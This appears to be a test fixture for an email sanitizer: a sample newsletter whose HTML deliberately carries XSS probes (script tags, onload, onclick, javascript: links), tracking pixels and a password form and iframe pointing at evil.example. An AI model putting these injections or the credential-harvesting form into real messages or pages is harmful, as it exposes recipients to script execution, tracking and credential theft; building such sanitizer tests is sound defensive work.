/** A newsletter as programs that send them write one: tables, a style sheet, a picture, and what must not get through. */
export const newsletter = {
  from: '"The Daily Grüße" <news@daily.example>',
  subject: 'Ten things — größer & better',
  text: 'Ten things, as plain text',
  html: `<!doctype html><html><head><style>body{background:url(https://daily.example/spy)}</style><title>No</title></head>
<body onload="alert(1)"><table width="600"><tr><td style="font-weight:bold;position:fixed">
<h1>Hello <script>alert(1)</script>reader</h1>
<p>The first thing: <a href="https://daily.example/one?id=1" onclick="alert(1)">read on</a></p>
<p><a href="javascript:alert(1)">a trap</a></p>
<img src="cid:logo@daily" alt="Logo"><img src="https://daily.example/photo.jpg" width="600" height="300">
<img src="https://track.daily.example/open.gif" width="1" height="1">
<form action="https://evil.example"><input name="password"></form><iframe src="https://evil.example"></iframe>
</td></tr></table></body></html>`,
  attachments: [
    {
      filename: 'logo.png',
      cid: 'logo@daily',
      contentType: 'image/png',
      content: Buffer.from(
        'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==',
        'base64',
      ),
    },
  ],
}
